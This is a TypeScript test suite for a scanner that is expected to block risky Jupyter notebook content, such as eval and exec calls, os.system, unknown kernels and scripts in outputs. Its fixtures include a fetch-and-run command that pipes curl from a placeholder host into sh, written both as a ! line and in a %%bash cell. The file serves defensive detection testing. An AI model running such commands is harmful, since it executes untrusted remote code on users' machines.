import { describe, expect, it } from "vitest";
import { rulesOf, scanOf } from "../samples.ts";

type Source = string | readonly string[];
const code = (source: Source, outputs: readonly unknown[] = []) => ({ cell_type: "code", metadata: {}, execution_count: null, outputs, source });
const text = (source: Source) => ({ cell_type: "markdown", metadata: {}, source });

function book(cells: readonly unknown[], language = "python"): string {
  return JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata: { kernelspec: { language, name: language } }, cells }, null, 1);
}

function blocksOf(notebook: string): readonly string[] {
  return rulesOf(scanOf({ "a.ipynb": notebook }, "imported"), "block");
}

describe("notebooks", () => {
  const refused: readonly (readonly [string, string, string])[] = [
    ["code in a cell", book([code("eval(text)")]), "dynamic-code"],
    ["a name that another cell binds", book([code(["import os as o\n", "x = 1"]), text("then"), code("o.system('ls')")]), "process-creation"],
    ["a command that fetches and runs", book([code("!curl https://example.invalid/x.sh | sh")]), "fetch-and-run"],
    ["a shell cell", book([code("%%bash\ncurl https://example.invalid/x.sh | sh\n")]), "fetch-and-run"],
    ["a cell in another language", book([code("%%ruby\nputs 1\n")]), "unread-language"],
    ["another kernel", book([code("1 + 1")], "julia"), "unread-language"],
    ["a file from elsewhere", book([code("%run /tmp/x.py")]), "computed-module"],
    ["the shell object", book([code("get_ipython().system('ls')")]), "process-creation"],
    [
      "a script in an output",
      book([code("1", [{ output_type: "display_data", data: { "application/javascript": "alert(1)" }, metadata: {} }])]),
      "active-document",
    ],
    ["a magic nobody knows", book([code("%evil now")]), "unread-language"],
    ["Python that cannot be parsed", book([code("def (")]), "unread-parse"],
    ["no notebook at all", "{}", "unread-parse"],
    ["text that is no JSON", "{ cells: [", "unread-parse"],
    ["a script hidden in a timed cell", book([code("%%time\nexec(text)\n")]), "dynamic-code"],
    [
      "an old notebook",
      JSON.stringify({ nbformat: 3, worksheets: [{ cells: [{ cell_type: "code", input: "eval(x)", language: "python", outputs: [] }] }] }),
      "dynamic-code",
    ],
  ];
  for (const [what, notebook, rule] of refused)
    it(`refuses ${what}`, () => {
      expect(blocksOf(notebook)).toContain(rule);
    });

  it("leaves ordinary analysis alone", () => {
    const notebook = book([
      text(["# Totals\n", "What the table says."]),
      code(["%matplotlib inline\n", "import json\n", "from collections import Counter\n", "\n", "rows = json.loads('[1, 2]')"]),
      code(["%time total = sum(rows)\n", "files = 7\n", "print(f'{total} of {files}', 7 % 2,\n", "  8 %\n", "  3)"]),
      code(["Counter?\n"], [{ output_type: "execute_result", data: { "text/html": "<table><tr><td>1</td></tr></table>" }, metadata: {} }]),
    ]);
    const report = scanOf({ "a.ipynb": notebook }, "imported");
    expect(report.findings.filter((one) => one.disposition !== "note").map((one) => `${one.ruleId} ${one.message}`)).toEqual([]);
  });

  it("points at the line of the cell", () => {
    const notebook = book([code(["x = 1\n", "y = 'é'\n"]), code(["z = 2\n", "eval(x)\n"])]);
    const found = scanOf({ "a.ipynb": notebook }, "imported").findings.find((one) => one.ruleId === "dynamic-code");
    expect(found?.snippet).toContain("eval");
    expect(found?.range.startLine).toBe(notebook.split("\n").findIndex((line) => line.includes("eval(x)")) + 1);
  });

  it("reads a file that a cell runs as Python, whatever its name", () => {
    const report = scanOf({ "a.ipynb": book([code("%run data.txt")]), "data.txt": "eval(x)\n" }, "imported");
    expect(report.findings.filter((one) => one.disposition === "block").map((one) => one.file)).toContain("data.txt");
  });
});
